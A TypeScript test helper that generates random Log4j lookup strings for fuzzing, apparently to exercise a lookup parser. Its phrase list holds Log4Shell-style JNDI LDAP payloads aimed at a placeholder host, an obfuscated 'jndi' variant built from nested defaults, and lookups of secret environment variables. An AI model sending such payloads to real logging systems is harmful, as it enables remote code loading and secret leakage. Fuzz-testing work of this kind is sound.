import type { Chance } from '../../test/kit/chance.ts'

/** Words of the language and their near misses: what a generated string is made of. */
const atoms = [
  '${',
  '}',
  '${',
  '}',
  ':-',
  ':',
  '-',
  '$',
  '$$',
  ':\\-',
  '\\',
  '{',
  ' ',
  '/',
  '.',
  'x',
  'Y',
  'a',
  '\n',
  'ı',
  'ſ',
  'K',
  'ß',
  '😀',
  'jndi:',
  'JNDI:',
  'jNdI:',
  'jndi:ldap://h/',
  'lower:',
  'LOWER:',
  'upper:',
  'env:',
  'ENV:',
  'env:USER',
  'env:HOME',
  'env:NONE',
  'env:SECRET',
  'env:EMPTY',
  'sys:',
  'sys:fl.name',
  'sys:fl.nested',
  'sys:fl.dollar',
  'ctx:',
  'ctx:id',
  "'",
  'java:',
  'java:nope',
  'java:os',
  'java:version',
  'date:',
  'date:yyyy',
  "date:'x'",
  'date:EEE, d MMM yyyy HH:mm:ss.SSS Z',
  'event:Level',
  'event:Message',
  'event:Logger',
  'event:Timestamp',
  'event:',
  'main:0',
  'map:x',
  'sd:x',
  'marker:',
  'bundle:a:b',
  'base64:',
  'k8s:',
  '::',
  'contextName_',
  'appName',
  'x:appName',
  'nope',
  'jvmrunargs:',
] as const

/** Whole payloads, so that generated strings also go through the common paths. */
const phrases = [
  '${jndi:ldap://h/a}',
  '${${::-j}${::-n}${::-d}${::-i}:ldap://h/a}',
  '${jndi:ldap://h/${lower:Y:-n}}',
  '${lower:${upper:a}}',
  '${env:NONE:-${env:USER}}',
  '$${jndi:ldap://h/a}',
  '${a:-${b:-${c:-d}}}',
  '${::-$}{x}',
  "${date:'j'}",
  '${jndi:java:comp/env/x}',
  '${jndi:x}',
  '${x:\\-y:-z}',
] as const

/** `count` strings, the same for the same chance; nested at most five levels. */
export function lookupStrings(count: number, chance: Chance): readonly string[] {
  const texts: string[] = []
  while (texts.length < count) {
    const text = chance.below(3) === 0 ? soup(chance) : wellFormed(chance, 0)
    // A text that holds itself twice keeps a real Log4j busy for longer than anyone can wait.
    if (text.split('event:Message').length <= 2) texts.push(text)
  }
  return texts
}

function pick(list: readonly string[], { below }: Chance): string {
  return list[below(list.length)] ?? ''
}

/** Words in any order: mostly broken syntax. */
function soup(chance: Chance): string {
  let text = ''
  for (let words = 1 + chance.below(14); words > 0; words--)
    text += pick(chance.below(8) === 0 ? phrases : atoms, chance)
  return text
}

/** Variables whose braces match, nested and with defaults. */
function wellFormed(chance: Chance, depth: number): string {
  let text = ''
  for (let parts = 1 + chance.below(2); parts > 0; parts--) {
    const kind = chance.below(8)
    if (kind < 2 || depth > 3) text += pick(atoms.slice(4), chance)
    else if (kind === 2) text += pick(phrases, chance)
    else {
      const name = wellFormed(chance, depth + 1)
      const fallback = chance.below(2) === 0 ? `:-${wellFormed(chance, depth + 1)}` : ''
      text += `${chance.below(12) === 0 ? '$' : ''}\${${name}${fallback}}`
    }
  }
  return text
}
